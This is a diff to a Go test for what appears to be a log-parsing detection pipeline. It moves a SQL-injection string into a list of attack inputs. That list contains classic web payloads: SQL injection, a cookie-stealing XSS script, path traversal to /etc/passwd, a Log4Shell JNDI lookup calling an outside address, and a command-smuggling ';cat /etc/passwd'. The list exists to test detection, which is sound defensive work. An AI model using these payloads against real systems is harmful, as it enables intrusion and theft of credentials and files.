@@ -28,9 +28,9 @@ func TestLeftOverFields(t *testing.T) {
 		"Mon, 20 Nov 2026 10:11:12 GMT", "2026-11-20T10:11:12.482Z", "1795169472.482", "jane@example.com", "jane.doe", "O'Brien", "session=7f3a9c; theme=dark", "ok", "-", "error: upstream timed out",
 		"Not?A_Brand;v=24, Chromium;v=124", "on", "true", "null", "512/2048", "+02:00", "a=1&b=2", "backend~ default/web1", "tcp://10.0.2.1:80",
 	}
-	words := []string{"1' or 1=1-- -", "1 union select password from users"} // without quotes these may be fields of a word each
+	words := []string{"1 union select password from users"} // without quotes these may be fields of a word each
 	attacks := []string{
-		"<script>alert(document.cookie)</script>", "../../../../etc/passwd", "${jndi:ldap://203.0.113.66/a}", ";cat /etc/passwd",
+		"1' or 1=1-- -", "<script>alert(document.cookie)</script>", "../../../../etc/passwd", "${jndi:ldap://203.0.113.66/a}", ";cat /etc/passwd",
 	}
 	p, _ := newPipeline(t, "workers=1", "mapping=auto")
 	alarms := func(place, value string) bool {
